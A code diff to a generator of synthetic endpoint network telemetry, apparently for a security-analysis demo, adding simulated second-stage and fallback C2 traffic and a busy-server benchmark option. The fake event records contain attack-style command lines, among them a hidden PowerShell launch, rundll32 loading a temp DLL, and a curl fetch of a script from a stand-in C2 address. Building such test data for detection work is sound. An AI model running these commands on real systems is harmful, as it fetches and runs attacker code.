@@ -40,6 +40,14 @@ export const DEMO_BENIGN_IPS = {
 export const DEMO_RARE_IPS = { scanner: '203.0.113.80', exfiltration: '192.0.2.147' } as const;
 /** An IPv6 destination a few machines used. */
 export const DEMO_IPV6_IP = '2001:db8:85a3::8a2e:370:7334';
+/**
+ * The machine view's walk: a second-stage host that only the holder machine talked to (so it comes first, rarest, in
+ * that machine's network activity), and a fallback C2 host four of the C2 machines talked to.
+ */
+export const DEMO_STAGE2_IP = '198.51.100.161';
+export const DEMO_C2_FALLBACK_IP = '203.0.113.219';
+/** With `scale.busyRemotes`, this internet-facing server accepts connections from that many distinct addresses. */
+export const DEMO_BUSY_MACHINE_NAME = 'web-prd-03.corp.contoso.com';
 /** A valid address that appears nowhere in the story. */
 export const DEMO_UNSEEN_IP = '192.0.2.200';
 export const DEMO_DC_IP = '10.20.0.10';
@@ -181,6 +189,8 @@ export interface StoryScale {
   c2Events?: number;
   /** Multiplier of the background traffic per machine and day (default 1). */
   backgroundTraffic?: number;
+  /** Distinct remote addresses (198.18.0.0/15) that connect to DEMO_BUSY_MACHINE_NAME over the last days (default none). */
+  busyRemotes?: number;
 }
 
 export interface StoryOptions {
@@ -536,6 +546,43 @@ export function buildDemoStory(options: StoryOptions): DemoStory {
       const t = anchor - (d + 1) * DAY + edgeRng.int(0, DAY / 1000 - 1) * 1000;
       const client = `198.51.100.${245 + edgeRng.int(0, 4)}`; // addresses no sample mentions
       events.push(networkEventRow(edge, t, DEMO_EGRESS_IP, edgeRng, { ...inbound, RemoteIP: client, RemotePort: edgeRng.int(40000, 60000), LocalPort: 443, InitiatingProcessFileName: 'nginx', LocalIPType: 'Public' }, undefined, reportId++));
+    }
+  }
+  // The machine view's walk. A generator of its own, so the rest of the story stays what it was for a seed.
+  const walk = new SeededRandom(seed ^ 0x5a17);
+  const emitWalk = (m: StoryMachine, t: number, e: EventSpec): void => {
+    events.push(networkEventRow(m, t, e.LocalIP ?? ipAt(m, t), walk, e, undefined, reportId++));
+  };
+  const stage2Start = anchor - 2 * DAY + 5 * HOUR;
+  for (let i = 0; i < 3; i++) {
+    emitWalk(holder, stage2Start + i * 17 * MINUTE + walk.int(0, 59) * 1000, {
+      RemoteIP: DEMO_STAGE2_IP, RemotePort: 443, RemoteUrl: 'update.contoso-sync.example',
+      InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe',
+      InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#2', InitiatingProcessAccountName: 'jdoe',
+    });
+  }
+  const fallback: [StoryMachine, number, ProcessSpec][] = [
+    [holder, 4, { InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe', InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#1', InitiatingProcessAccountName: 'jdoe' }],
+    [hostile[0], 3, { InitiatingProcessFileName: 'powershell.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', InitiatingProcessCommandLine: `powershell.exe -w hidden -c "${HOSTILE_STRINGS.script}"`, InitiatingProcessAccountName: HOSTILE_STRINGS.img }],
+    [hostile[1], 5, { InitiatingProcessFileName: `${HOSTILE_STRINGS.bold}.exe`, InitiatingProcessFolderPath: `c:\\users\\public\\${HOSTILE_STRINGS.commandLink}.exe`, InitiatingProcessCommandLine: `"${HOSTILE_STRINGS.bold}.exe" ${HOSTILE_STRINGS.backticks}`, InitiatingProcessAccountName: 'lchen' }],
+    [linuxC2, 8, { InitiatingProcessFileName: 'curl', InitiatingProcessFolderPath: '/usr/bin/curl', InitiatingProcessCommandLine: `curl -s https://${DEMO_C2_FALLBACK_IP}/y.sh`, InitiatingProcessAccountName: 'deploy' }],
+  ];
+  for (const [m, daysAgo, process] of fallback) {
+    const start = anchor - daysAgo * DAY + walk.int(1, 6) * HOUR;
+    for (let i = 0; i < 2; i++) emitWalk(m, start + i * walk.int(5, 15) * MINUTE, { RemoteIP: DEMO_C2_FALLBACK_IP, RemotePort: 8443, RemoteUrl: 'relay.contoso-sync.example', ...process });
+  }
+  // Benchmark scale: an internet-facing server accepting connections from many distinct addresses, a tenth of which
+  // also reached another web server (so their prevalence is 2).
+  const busyRemotes = options.scale?.busyRemotes ?? 0;
+  if (busyRemotes > 0) {
+    const busy = byName(DEMO_BUSY_MACHINE_NAME);
+    const other = byName('web-prd-01.corp.contoso.com');
+    const from = anchor - 6 * DAY;
+    for (let i = 0; i < busyRemotes; i++) {
+      const ip = `198.${18 + (i >> 16)}.${(i >> 8) & 255}.${i & 255}`;
+      const inbound = { ActionType: 'InboundConnectionAccepted', RemoteIP: ip, RemotePort: walk.int(1024, 65535), LocalPort: 443, InitiatingProcessFileName: 'System', InitiatingProcessFolderPath: '', InitiatingProcessCommandLine: '', InitiatingProcessAccountName: 'system' };
+      for (let k = walk.int(1, 3); k > 0; k--) emitWalk(busy, from + walk.int(0, 6 * 24 * 3600 - 120) * 1000, inbound);
+      if (i % 10 === 0) emitWalk(other, from + walk.int(0, 6 * 24 * 3600 - 120) * 1000, inbound);
     }
   }
   events.sort(byTimestamp);
